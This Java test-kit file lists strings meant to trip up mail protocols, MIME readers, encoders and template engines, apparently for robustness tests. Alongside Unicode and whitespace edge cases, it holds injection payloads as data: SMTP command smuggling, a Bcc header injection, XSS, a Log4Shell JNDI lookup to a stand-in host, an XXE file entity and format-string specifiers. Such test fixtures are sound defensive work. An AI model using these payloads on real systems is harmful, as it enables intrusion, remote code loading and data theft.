package io.vestnik.testkit;

import java.util.List;

/** Texts that some protocol, encoder or parser on the way would like to change. */
final class HostileTexts {
    static final List<String> ALL =
            List.of(
                    // The end of a message, to a server that reads line by line.
                    "before\n.\nafter",
                    ".\n..\n...\nQUIT\nRSET",
                    // What mailboxes and MIME readers stumble over.
                    "From me to you\n--=_Part_0\nContent-Type: text/html\n\n<b>bold</b>",
                    "Subject: forged\nBcc: evil@example.com\n\nbody",
                    "=3D =0A soft=\nbreak =?UTF-8?Q?encoded?=",
                    // What a trimming or wrapping encoder changes.
                    "  indented, with trailing spaces   \n\tand tabs\t\n\n\nand empty lines",
                    "x".repeat(5_000) + " " + "ж".repeat(3_000),
                    // Beyond ASCII, beyond 16 bits, beyond left-to-right.
                    "Žluťoučký kůň, Съешь же ещё этих мягких булок, 漢字, 👩‍👩‍👧‍👦, e\u0301",
                    "\u202Eright to left\u202C, \u200Bnothing\u200B, \uFEFFmark, \u2028line",
                    // What a template or markup engine would take for its own.
                    "<script>alert(1)</script> &amp; ${jndi:ldap://evil} {{x}} %s %n \\n '\" ` *_[",
                    "{\"text\":\"not JSON\"}\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc\">]>");

    private HostileTexts() {}
}
